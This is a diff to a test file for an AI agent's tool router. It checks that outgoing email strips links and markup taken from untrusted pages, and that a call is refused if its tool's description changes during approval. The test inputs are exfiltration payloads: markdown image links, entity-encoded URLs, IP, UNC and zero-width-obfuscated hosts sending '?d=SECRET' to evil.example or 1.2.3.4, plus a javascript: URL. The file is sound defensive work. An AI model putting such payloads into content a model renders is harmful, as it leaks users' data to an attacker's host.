@@ -102,7 +102,7 @@ describe('sink policy', () => {
     const result = await r.call('send_email', { to: trusted('me@corp.example'), body: derive((t) => t, page) });
     expect(result.status).toBe('ok');
     expect(approver).not.toHaveBeenCalled();
-    expect(sent).toEqual([{ to: 'me@corp.example', body: 'Totals chart see notes or [link removed] ' }]);
+    expect(sent).toEqual([{ to: 'me@corp.example', body: 'Totals  chart {link removed}  see  notes {link removed}  or {link removed}  img {link removed} ' }]);
   });
 
   it('leaves a trusted body as the user wrote it, links included', async () => {
@@ -124,27 +124,71 @@ describe('sink policy', () => {
 });
 
 describe('plain text for a sink', () => {
-  it('drops reference-style images and links and their definitions, so nothing is left to load or click', () => {
-    expect(plainText('![a][r]\n\n[r]: //evil.example/p?d=SECRET')).toBe('a\n\n');
-    expect(plainText('see [notes][n] and [n]\n   [n]: https://evil.example/n?d=2 "title"')).toBe('see notes and [n]\n');
+  const MARKUP = /[<>[\]()&`]/;
+  /** Every scheme, host and address the hostile inputs below use, in any spelling that could still load or link. */
+  const ADDRESS = /evil|1\.2\.3\.4|https?:|\/\/|www/i;
+  function plainAndSafe(input: string): string {
+    const out = plainText(input);
+    expect(out).not.toMatch(MARKUP);
+    expect(out).not.toMatch(ADDRESS);
+    return out;
+  }
+
+  it('cannot rebuild markup: a removal leaves a space, so the text around it never joins into a link or a tag', () => {
+    // What is left of "&<i>#46;" is text: without the "&" no renderer turns "#46;" into a dot.
+    expect(plainAndSafe('Totals ![chart]<i>(http:evil&<i>#46;example/p?d=SECRET)')).toBe('Totals  chart i {link removed} i #46;example/p?d=SECRET ');
+    expect(plainAndSafe('<<b>img src="http:1.2.3.4/p?d=SECRET">')).toBe(' b img {link removed} ');
   });
 
-  it('decodes HTML entities before looking for URLs, so an encoded colon or tag hides nothing', () => {
-    expect(plainText('[r]: https&#58;//evil.example/p?d=SECRET')).toBe('');
-    expect(plainText('go to https&colon;//evil.example/p?d=1 or https&#x3A//evil.example/p?d=2')).toBe('go to [link removed] or [link removed]');
-    expect(plainText('double-encoded: https&amp;#58;//evil.example/p?d=3')).toBe('double-encoded: https[link removed]');
-    expect(plainText('&lt;img src="//evil.example/i?d=3"&gt;done')).toBe('done');
-    expect(plainText('an entity it does not know is dropped: x&commat;y &constructor;')).toBe('an entity it does not know is dropped: xy ');
+  it('removes a URL with a scheme and no //, however the brackets around it nest', () => {
+    expect(plainAndSafe('![a[b]](http:1.2.3.4/p?d=SECRET)')).toBe(' a b {link removed} ');
+    expect(plainAndSafe('![a](http:1.2.3.4/p?d=(SECRET))')).toBe(' a {link removed} SECRET ');
+    expect(plainAndSafe('> [r]: http:1.2.3.4/p?d=SECRET\n\n![r]')).toBe('   r : {link removed}\n\n r ');
+    expect(plainAndSafe('mailto:me@corp.example?body=SECRET or javascript:alert(1)')).toBe('{link removed} or {link removed} 1 ');
   });
 
-  it('removes protocol-relative URLs and bare host names, which a mail client may turn into links', () => {
-    expect(plainText('open //evil.example/p?d=SECRET')).toBe('open [link removed]');
-    expect(plainText('visit evil.example/p?d=SECRET or SECRET.evil.example, or www.evil.example')).toBe('visit [link removed] or [link removed], or [link removed]');
+  it('removes a dotted IPv4 address, and a host inside emphasis or after punctuation, with the word around it', () => {
+    expect(plainAndSafe('see 1.2.3.4/p?d=SECRET')).toBe('see {link removed}');
+    expect(plainAndSafe('_www.evil.example/p?d=SECRET_')).toBe('{link removed}');
+    expect(plainAndSafe('see...www.evil.example/p?d=SECRET')).toBe('{link removed}');
   });
 
-  it('keeps ordinary text, numbers, abbreviations and email addresses', () => {
-    const text = 'Fish &amp; chips at AT&T: up 3.5 %, e.g. in Q3 (v2.1); ask me@corp.example';
-    expect(plainText(text)).toBe('Fish & chips at AT&T: up 3.5 %, e.g. in Q3 (v2.1); ask me@corp.example');
+  it('removes protocol-relative and UNC addresses, and host names with a path, a query, a www. or a subdomain', () => {
+    expect(plainAndSafe('open //evil.example/p?d=SECRET or \\\\evil.example\\share')).toBe('open {link removed} or {link removed}');
+    expect(plainAndSafe('visit evil.example/p?d=SECRET or SECRET.evil.example, or www.evil or evil.example?d=SECRET')).toBe(
+      'visit {link removed} or {link removed} or {link removed} or {link removed}',
+    );
+    expect(plainAndSafe('port evil.example:8080 and an IDN SECRET.evil.рф')).toBe('port {link removed} and an IDN {link removed}');
+  });
+
+  it('drops invisible format characters first, so a soft hyphen or zero-width space cannot hide a host', () => {
+    expect(plainAndSafe('evil.ex\u00adample/p?d=SECRET and www\u200b.evil.example')).toBe('{link removed} and {link removed}');
+  });
+
+  it('leaves no character reference to decode: "&" becomes a space, so the rest of an entity is plain text', () => {
+    expect(plainAndSafe('go to https&#58;//evil.example/p?d=1 or https&amp;#58;//evil.example/p?d=2')).toBe('go to https {link removed} or https {link removed}');
+    expect(plainAndSafe('&lt;img src="//evil.example/i?d=3"&gt;done')).toBe(' lt;img {link removed} gt;done');
+  });
+
+  it('keeps ordinary text, figures, abbreviations, file names, a bare domain and e-mail addresses', () => {
+    const text = 'Revenue 5% in Q3, e.g. 3.5 times v2.1 at 12:30; see Node.js, README.md and example.com; ask me@corp.example.';
+    expect(plainText(text)).toBe(text);
+    // A bare address becomes a mailto link at most: opening it loads nothing and sends nothing until someone presses send.
+    expect(plainText('write to SECRET@evil.example')).toBe('write to SECRET@evil.example');
+  });
+
+  it('loses what a pattern cannot tell from markup: comparison signs, ampersands and brackets become spaces', () => {
+    expect(plainText('Revenue < 5% in Q3 and margin > 2% overall')).toBe('Revenue   5% in Q3 and margin   2% overall');
+    expect(plainText('Fish & chips at AT&T (v2.1) [draft] `code`')).toBe('Fish   chips at AT T  v2.1   draft   code ');
+    expect(plainText('a note:this, version 1.2.3.4 of docs.example.org')).toBe('a {link removed} version {link removed} of {link removed}');
+  });
+
+  it('takes time in proportion to the input, even for long runs built to make a pattern backtrack', () => {
+    const n = 100_000;
+    for (const unit of ['[', '<', '![a](', 'a.', '1.', 'a', '1', '_', 'a-', 'a:', '//', 'www.', 'a@', 'a.b.', '1.2.3.']) {
+      const out = plainText(unit.repeat(n / unit.length) + '!');
+      expect(out).not.toMatch(MARKUP);
+    }
   });
 });
 
@@ -180,6 +224,19 @@ describe('tool pinning', () => {
     decide(true);
     expect(await pending).toMatchObject({ status: 'refused', reason: 'description-changed' });
     expect(sent).toEqual([]);
+  });
+
+  it('refuses a call whose tool was changed and approved again while the person decided: its arguments were checked under the old labels', async () => {
+    let decide: (ok: boolean) => void = () => undefined;
+    const { r, tools, approver, sent } = await router(() => new Promise<boolean>((resolve) => (decide = resolve)));
+    const pending = r.call('send_email', { to: { value: 'partner@example.org', taint: new Set(['email:4711']) }, body: trusted('hello') });
+    await vi.waitFor(() => expect(approver).toHaveBeenCalledTimes(1));
+    tools[1]!.description = 'Send an email, with the company signature.';
+    await r.approveTools([tools[1]!]); // someone reviews and approves the new definition meanwhile
+    decide(true);
+    expect(await pending).toMatchObject({ status: 'refused', reason: 'description-changed' });
+    expect(sent).toEqual([]);
+    expect(await r.call('send_email', { to: trusted('me@corp.example'), body: trusted('hi') })).toMatchObject({ status: 'ok' }); // a new call uses the new pin
   });
 
   it('refuses a changed parameter list as well as a changed description', async () => {
